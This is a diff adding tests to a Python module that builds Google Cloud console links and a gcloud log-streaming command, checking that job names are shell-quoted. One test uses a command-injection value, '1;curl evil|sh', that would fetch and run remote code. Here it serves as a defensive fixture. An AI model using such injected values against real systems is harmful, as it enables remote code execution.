@@ -2,8 +2,13 @@
 
 from __future__ import annotations
 
+import shlex
 from urllib.parse import parse_qs, unquote, urlsplit
 
+from hypothesis import given
+from hypothesis import strategies as st
+
+from spot.core import fields
 from spot.google import console_urls
 
 JOB = "projects/123/locations/us-east4/customJobs/456"
@@ -29,3 +34,16 @@ def test_what_lies_in_a_bucket_has_a_page_and_a_local_path_has_none() -> None:
     page = "https://console.cloud.google.com/storage/browser/bucket/our%20prefix/models/run-1"
     assert console_urls.storage("gs://bucket/our prefix/models/run-1") == page
     assert console_urls.storage("models") is None
+
+
+@given(st.from_regex(fields.JOB, fullmatch=True))
+def test_the_command_that_is_printed_has_only_its_own_words(job: str) -> None:
+    words = shlex.split(console_urls.follow(job))
+    assert words[:4] == ["gcloud", "ai", "custom-jobs", "stream-logs"]
+    assert [word.partition("=")[0] for word in words[5:]] == ["--region", "--project"]
+
+
+def test_what_a_shell_would_run_is_quoted() -> None:
+    """The ledger holds no such name; nothing printed relies on that."""
+    line = console_urls.follow("projects/p/locations/r/customJobs/1;curl evil|sh")
+    assert shlex.split(line)[4] == "1;curl evil|sh"
